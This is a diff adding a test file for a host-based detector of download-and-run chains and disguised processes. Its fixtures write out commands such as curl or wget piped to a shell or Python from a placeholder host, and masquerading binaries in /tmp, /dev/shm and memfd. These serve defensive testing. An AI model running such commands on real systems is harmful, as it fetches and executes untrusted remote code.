@@ -1,0 +1,117 @@
+import { describe, expect, it } from 'vitest';
+import type { HostEvent, HostProcessWithParents } from '../../../contract/events.ts';
+import { downloadAndRunBehaviour } from './download-and-run.ts';
+import { hiddenProgramBehaviour } from './hidden-program.ts';
+import { findingsOf, program, START_MS, starts } from './testing.ts';
+
+function writes(process: HostProcessWithParents, path: string): HostEvent {
+  return { type: 'file-written', timeMs: START_MS, path, process };
+}
+
+const SHELL = '/usr/bin/bash';
+
+describe('download and run', () => {
+  const attacks: readonly [string, readonly HostEvent[], string][] = [
+    [
+      'curl | sh',
+      [
+        starts(program('/usr/bin/curl -fsSL http://203.0.113.5/a', [SHELL])),
+        starts(program('/usr/bin/sh', [SHELL]), START_MS + 3),
+      ],
+      'medium',
+    ],
+    [
+      'wget -qO- | python3 -',
+      [
+        starts(program('/usr/bin/wget -qO- http://203.0.113.5/a', [SHELL])),
+        starts(program('/usr/bin/python3.11 -', [SHELL]), START_MS + 3),
+      ],
+      'medium',
+    ],
+    [
+      'wget, chmod, run',
+      [
+        writes(program('/usr/bin/wget http://203.0.113.5/a -O /tmp/a', [SHELL]), '/tmp/a'),
+        starts(program('/tmp/a', [SHELL]), START_MS + 900),
+      ],
+      'high',
+    ],
+    [
+      'a fetched script',
+      [
+        writes(program('/usr/bin/curl -o /tmp/a.sh http://a', [SHELL]), '/tmp/a.sh'),
+        starts(program('/usr/bin/bash /tmp/a.sh', [SHELL]), START_MS + 900),
+      ],
+      'high',
+    ],
+  ];
+  for (const [name, events, severity] of attacks) {
+    it(`tells of ${name}`, () =>
+      expect(findingsOf(downloadAndRunBehaviour, events)).toMatchObject([{ kind: 'execution', severity }]));
+  }
+
+  const usual: readonly [string, readonly HostEvent[]][] = [
+    ['curl | jq', [starts(program('/usr/bin/curl -s http://a', [SHELL])), starts(program('/usr/bin/jq .x', [SHELL]))]],
+    [
+      'curl | python -m json.tool',
+      [
+        starts(program('/usr/bin/curl -s http://a', [SHELL])),
+        starts(program('/usr/bin/python3 -m json.tool', [SHELL])),
+      ],
+    ],
+    [
+      'a download that is kept',
+      [starts(program('/usr/bin/curl -O http://a/x.tar.gz', [SHELL])), starts(program('/usr/bin/sh', [SHELL]))],
+    ],
+    [
+      'a script that ran long after',
+      [
+        writes(program('/usr/bin/curl -o /home/anna/a.sh http://a'), '/home/anna/a.sh'),
+        starts(program('/usr/bin/bash /home/anna/a.sh'), START_MS + 7_200_000),
+      ],
+    ],
+    [
+      'a package that fetches',
+      [
+        starts(program('/usr/bin/curl -s http://a', ['/bin/sh x.postinst', '/usr/bin/dpkg -i'])),
+        starts(program('/bin/sh', ['/bin/sh x.postinst', '/usr/bin/dpkg -i'])),
+      ],
+    ],
+  ];
+  for (const [name, events] of usual) {
+    it(`is silent about ${name}`, () => expect(findingsOf(downloadAndRunBehaviour, events)).toEqual([]));
+  }
+});
+
+describe('hidden programs', () => {
+  const hidden: readonly [HostProcessWithParents, string][] = [
+    [program('memfd:x -c', ['/usr/bin/python3']), 'high'],
+    [{ ...program('/tmp/kworker'), commandLine: '[kworker/0:1]' }, 'high'],
+    [program('/tmp/x', [SHELL], { isImageDeleted: true }), 'high'],
+    [program('/tmp/.ICE/run'), 'medium'],
+    [program('/home/anna/.x/sshd'), 'medium'],
+    [program('/dev/shm/x'), 'medium'],
+    [program('/usr/bin/bash /var/tmp/.a/run.sh'), 'medium'],
+  ];
+  for (const [process, severity] of hidden) {
+    it(`tells of ${process.commandLine}`, () =>
+      expect(findingsOf(hiddenProgramBehaviour, [starts(process)])).toMatchObject([{ severity }]));
+  }
+
+  it('is silent about what is usual', () => {
+    const usual = [
+      program('memfd:runc_cloned:/proc/self/exe init'),
+      program('/home/anna/.cargo/bin/rg x'),
+      program('/home/anna/.vscode-server/bin/abc/node'),
+      program('/home/anna/.local/bin/pytest'),
+      program('/tmp/.mount_ObsidiX/obsidian'),
+      program('/usr/bin/firefox', [], { isImageDeleted: true }),
+      program('/usr/bin/bash', [SHELL], { name: 'kworker' }),
+      program('/home/anna/project/node_modules/.bin/tsc'),
+      program('/tmp/go-build123/b001/exe/main'),
+      program('/usr/lib/git-core/git status'),
+    ];
+    for (const process of usual)
+      expect(findingsOf(hiddenProgramBehaviour, [starts(process)]), process.commandLine).toEqual([]);
+  });
+});
